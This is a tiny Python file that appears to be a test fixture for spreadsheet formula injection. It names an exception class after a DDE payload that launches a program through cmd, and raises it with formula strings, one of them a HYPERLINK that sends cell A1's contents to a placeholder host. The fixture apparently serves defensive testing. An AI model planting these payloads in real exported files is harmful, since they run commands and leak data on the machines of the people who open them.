# aim: have a spreadsheet run a formula
# expect: double error


class Formula(Exception):
    pass


Formula.__name__ = Formula.__qualname__ = "=cmd|' /C calc'!A0"


def double(x):
    raise Formula('=HYPERLINK("http://x.invalid?"&A1,"100 of 100")\n@SUM(1+1)*cmd|x\n+1\n-1\n\t=1+1')
